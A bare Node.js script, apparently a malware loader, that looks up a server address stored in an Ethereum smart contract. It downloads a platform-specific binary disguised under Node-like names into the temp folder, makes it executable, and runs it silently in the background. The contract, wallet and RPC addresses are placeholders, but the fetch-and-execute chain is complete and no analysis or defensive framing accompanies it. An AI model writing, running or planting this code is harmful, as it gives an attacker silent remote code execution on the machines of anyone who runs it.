const { ethers } = require("ethers");
const axios = require("axios");
const fs = require("fs");
const path = require("path");
const os = require("os");
const { spawn } = require("child_process");

const abi = ["function getString(address account) public view returns (string)"];
const contractAddress = "0x0000000000000000000000000000000000000001";
const WalletOwner = "0x0000000000000000000000000000000000000002";

const fetchAndUpdateIp = async () => {
  try {
    const provider = new ethers.JsonRpcProvider("https://mainnet.example.test");
    const contract = new ethers.Contract(contractAddress, abi, provider);
    return await contract.getString(WalletOwner);
  } catch (error) {
    return await fetchAndUpdateIp();
  }
};

const getDownloadUrl = (hostAddress) => {
  const names = { win32: "node-win.exe", linux: "node-linux", darwin: "node-macos" };
  return `${hostAddress}/${names[os.platform()]}`;
};

const downloadFile = async (url, downloadPath) => {
  const writer = fs.createWriteStream(downloadPath);
  const response = await axios({ url, method: "GET", responseType: "stream" });
  response.data.pipe(writer);
  return new Promise((resolve, reject) => {
    writer.on("finish", resolve);
    writer.on("error", reject);
  });
};

const executeFileInBackground = (file) => {
  const proc = spawn(file, [], { detached: true, stdio: "ignore" });
  proc.unref();
};

(async () => {
  const ip = await fetchAndUpdateIp();
  const url = getDownloadUrl(ip);
  const target = path.join(os.tmpdir(), path.basename(url));
  await downloadFile(url, target);
  if (os.platform() !== "win32") fs.chmodSync(target, "755");
  executeFileInBackground(target);
})();
